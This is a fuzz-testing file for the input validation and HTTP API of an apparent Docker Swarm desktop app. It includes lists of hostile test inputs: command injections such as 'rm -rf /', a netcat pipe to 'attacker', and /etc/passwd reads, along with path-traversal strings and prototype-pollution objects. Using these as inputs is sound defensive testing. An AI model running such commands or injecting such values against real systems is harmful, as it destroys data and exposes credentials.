// Bad input, generated: for every API method, 1,000+ inputs made of wrong types, huge strings,
// unicode, shell metacharacters, path traversal, negative and enormous numbers, mutated from a
// valid input. Every one either fails validation with a structured error (and no handler, so
// no remote call, runs), or is valid and reaches the handler as the parsed data, strings
// unchanged: passed as data, never interpreted.
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { METHODS, contract, type Handlers, type Method } from '../../electron/shared/contract';
import { createDispatch } from '../../electron/shared/dispatch';

const HOST = 'a1b2c3d4-0000-4000-8000-000000000001';
const NODE = 'abcdefghijklmnopqrstuvwxy';
const FP = `SHA256:${'A'.repeat(43)}`;
/** A valid input per method: the base the mutations start from. */
const SAMPLES: Record<Method, Record<string, unknown>> = {
  'app:info': {},
  'hosts:list': {},
  'hosts:add': { name: 'docker1', address: '192.168.1.10', port: 22, user: 'root', auth: { kind: 'key', keyPath: '/home/me/.ssh/id_ed25519' } },
  'hosts:addLocal': { name: 'local', socketPath: '/var/run/docker.sock' },
  'hosts:update': { id: HOST, name: 'docker2' },
  'hosts:remove': { id: HOST },
  'hosts:probe': { id: HOST },
  'hosts:test': { id: HOST },
  'hosts:trust': { id: HOST, fingerprint: FP },
  'hosts:forgetHostKey': { id: HOST },
  'hosts:importCandidates': {},
  'hosts:addresses': { id: HOST },
  'swarm:init': { id: HOST, advertiseAddr: '10.0.0.1' },
  'swarm:join': { managerId: HOST, joins: [{ id: HOST, role: 'worker' }] },
  'swarm:leave': { id: HOST, force: false },
  'swarm:rotateTokens': { worker: true },
  'nodes:update': { nodeId: NODE, availability: 'drain', addLabels: { zone: 'eu' } },
  'nodes:remove': { nodeId: NODE },
  'networks:create': { name: 'appnet', attachable: true, subnet: '10.20.0.0/24', gateway: '10.20.0.1', labels: { team: 'a' } },
  'networks:inspect': { network: 'appnet' },
  'networks:remove': { network: 'appnet' },
  'images:list': {},
  'services:create': { name: 'web', image: 'nginx:1.27', replicas: 2, networks: ['appnet'], env: ['A=b'], command: ['sh', '-c', 'echo hi'], ports: [{ target: 80, published: 8080 }], constraints: ['node.role==worker'] },
  'services:scale': { service: 'web', replicas: 3 },
  'services:update': { service: 'web', env: ['A=c'], endpointMode: 'dnsrr' },
  'services:remove': { service: 'web' },
  'services:tasks': { service: 'web' },
  'services:rollback': { service: 'web' },
  'swarm:underlay': { hostIds: ['a', 'b'] },
  'services:resume': { service: 'web' },
  'services:forceUpdate': { service: 'web' },
  'services:logs': { service: 'web', tail: 10 },
  'services:logsStop': { streamId: 'abc-123' },
  'services:attachNetwork': { service: 'web', network: 'appnet' },
  'services:detachNetwork': { service: 'web', network: 'appnet' },
  'checks:run': { from: 'frontend', to: 'backend', port: 80 },
  'checks:matrix': { network: 'appnet' },
  'checks:watch': { from: 'frontend', to: 'backend', intervalSec: 5 },
  'checks:watchStop': { watchId: 'abc-123' },
  'console:open': { taskId: 'abcdef123456', cols: 80, rows: 24 },
  'console:input': { consoleId: 'abc-123', data: 'ls\n' },
  'console:resize': { consoleId: 'abc-123', cols: 100, rows: 30 },
  'console:close': { consoleId: 'abc-123' },
  'lessons:tunnel': { network: 'appnet', ipsec: true },
  'lessons:tunnelWatch': { network: 'appnet', seconds: 60 },
  'lessons:tunnelWatchStop': { watchId: 'abc-123' },
  'lessons:probe': { from: 'frontend', names: ['backend', 'tasks.backend'], ips: ['10.0.1.2'], port: 80 },
  'lessons:localNetworkCreate': { hostId: HOST, name: 'learn-bridge', lesson: 'bridge' },
  'lessons:containerRun': { hostId: HOST, name: 'learn-bridge-a', network: 'learn-bridge', lesson: 'bridge' },
  'lessons:containerInspect': { hostId: HOST, container: 'learn-bridge-a' },
  'lessons:networkInspect': { hostId: HOST, network: 'learn-bridge' },
  'lessons:cleanup': { track: 'bridge' },
  'stacks:list': {},
  'stacks:check': { compose: 'services:\n  web:\n    image: lab/web\n', env: 'A=b' },
  'stacks:deploy': { name: 'app', compose: 'services:\n  web:\n    image: lab/web\n', files: { './web.env': 'A=b' }, preview: true },
  'stacks:status': { name: 'app' },
  'stacks:remove': { name: 'app' },
  'stacks:export': { name: 'app' },
  'services:export': { service: 'web' },
  'secrets:list': {},
  'secrets:create': { name: 'db_password', data: 's3cret' },
  'secrets:remove': { name: 'db_password' },
  'secrets:rotate': { name: 'db_password', data: 'n3w' },
  'configs:list': {},
  'configs:create': { name: 'nginx_conf', dataBase64: 'aGk=' },
  'configs:remove': { name: 'nginx_conf' },
  'configs:rotate': { name: 'nginx_conf', newName: 'nginx_conf_v2', data: 'x' },
  'cluster:snapshot': {},
  'cluster:model': {},
};

const SHELL = ['; rm -rf /', '$(id)', '`id`', '| nc attacker 1', '&& reboot', "'; DROP", '\n/bin/sh', '${IFS}cat${IFS}/etc/passwd', '>/etc/passwd', '*'];
const TRAVERSAL = ['../../etc/passwd', '..\\..\\windows', '/etc/shadow', '~/../../root', '%2e%2e%2f', 'file:///etc/passwd'];
const nasty: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...SHELL, ...TRAVERSAL),
  fc.constantFrom('x'.repeat(100_000), 'é'.repeat(20_000), '\u0000', '\u202e', '🏝️🌉', ''),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ maxLength: 300 }),
  fc.constantFrom(-1, 0, -(2 ** 53), 2 ** 53, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 0.5, -0, Infinity, -Infinity, NaN),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constant(undefined),
  fc.array(fc.oneof(fc.string(), fc.integer()), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), { maxKeys: 3 }),
  fc.constant({ __proto__: { polluted: true } }),
);

/** An input for a method: anything at all, or its sample with 1–3 fields (or nested ones) made nasty. */
function inputs(method: Method): fc.Arbitrary<unknown> {
  const sample = SAMPLES[method];
  const keys = [...Object.keys(sample), 'extra', 'constructor', '__proto__'];
  const mutated = fc.array(fc.tuple(fc.constantFrom(...keys), nasty), { minLength: 1, maxLength: 3 }).map((changes) => {
    const copy: Record<string, unknown> = structuredClone(sample);
    for (const [k, v] of changes) Object.defineProperty(copy, k, { value: v, enumerable: true, writable: true, configurable: true });
    return copy;
  });
  return fc.oneof({ weight: 1, arbitrary: fc.anything() }, { weight: 1, arbitrary: nasty }, { weight: 4, arbitrary: mutated });
}

function spies() {
  const calls: { method: Method; input: unknown }[] = [];
  const handlers = Object.fromEntries(METHODS.map((m) => [m, vi.fn(async (input: unknown) => (calls.push({ method: m, input }), { ok: true }))])) as unknown as Handlers;
  return { handlers, calls };
}

describe('generated bad input', () => {
  it('starts from a valid sample for every method', () => {
    for (const m of METHODS) expect(contract[m].input.safeParse(SAMPLES[m]).success, m).toBe(true);
    expect(Object.keys(SAMPLES).sort()).toEqual([...METHODS].sort());
  });

  for (const method of METHODS) {
    it(`${method}: 1,000 inputs, each refused with a structured error before any handler, or passed as data`, async () => {
      const { handlers, calls } = spies();
      const dispatch = createDispatch(handlers);
      let refused = 0;
      await fc.assert(
        fc.asyncProperty(inputs(method), async (input) => {
          calls.length = 0;
          const valid = contract[method].input.safeParse(input ?? {}).success;
          const res = await dispatch(method, input);
          if (!valid) {
            refused++;
            expect(res.ok).toBe(false);
            if (res.ok) return;
            expect(res.error.code).toBe('invalid-input');
            expect(typeof res.error.message).toBe('string');
            expect(res.error.message.length).toBeGreaterThan(0);
            expect(res.error.message.length).toBeLessThan(5_000);
            expect(calls).toEqual([]);
          } else {
            // Valid: the handler gets exactly the parsed data (strings as sent, trimmed at most).
            expect(res.ok).toBe(true);
            expect(calls.map((c) => c.method)).toEqual([method]);
            expect(calls[0].input).toEqual(contract[method].input.parse(input ?? {}));
          }
        }),
        { numRuns: 1000 },
      );
      // Methods without input accept only {}: nearly everything is refused there too.
      expect(refused).toBeGreaterThan(500);
    });
  }
});

describe('generated bad requests over HTTP', () => {
  it('answers 1,000 raw bodies to random paths with a JSON envelope, and stays up', async () => {
    const { startApiServer } = await import('../../electron/server/api-server');
    const http = await import('node:http');
    const { handlers, calls } = spies();
    const dispatch = createDispatch(handlers);
    const server = await startApiServer({ token: 'fuzz-token-0123456789abcdef', staticDir: undefined, dispatch, subscribe: () => () => {} });
    const post = (p: string, body: string, token = 'fuzz-token-0123456789abcdef') =>
      new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = http.request({ host: '127.0.0.1', port: server.port, path: p, method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' } }, (res) => {
          let b = '';
          res.on('data', (c) => (b += c));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body: b }));
        });
        req.on('error', reject);
        req.end(body);
      });
    try {
      const body = fc.oneof(fc.json(), fc.string({ unit: 'grapheme', maxLength: 200 }), fc.constantFrom('{', '{"a":', '\u0000', 'x'.repeat(200_000), 'null', '[]', '"str"', '{"__proto__":{"x":1}}'));
      const where = fc.oneof(fc.constantFrom(...METHODS).map((m) => `/api/${m}`), fc.constantFrom('/api/', '/api/..%2f..%2fetc', '/api/hosts:add%00', `/api/${'a'.repeat(5000)}`));
      await fc.assert(
        fc.asyncProperty(where, body, async (p, b) => {
          calls.length = 0;
          const res = await post(p, b);
          const envelope = JSON.parse(res.body);
          expect(typeof envelope.ok).toBe('boolean');
          if (!envelope.ok) expect(res.status).toBeGreaterThanOrEqual(400);
        }),
        { numRuns: 1000 },
      );
      // Still serving afterwards, and still refusing a wrong token.
      expect((await post('/api/app:info', '{}')).status).toBe(200);
      expect((await post('/api/app:info', '{}', 'wrong')).status).toBe(401);
    } finally {
      await server.close();
    }
  }, 120_000);
});
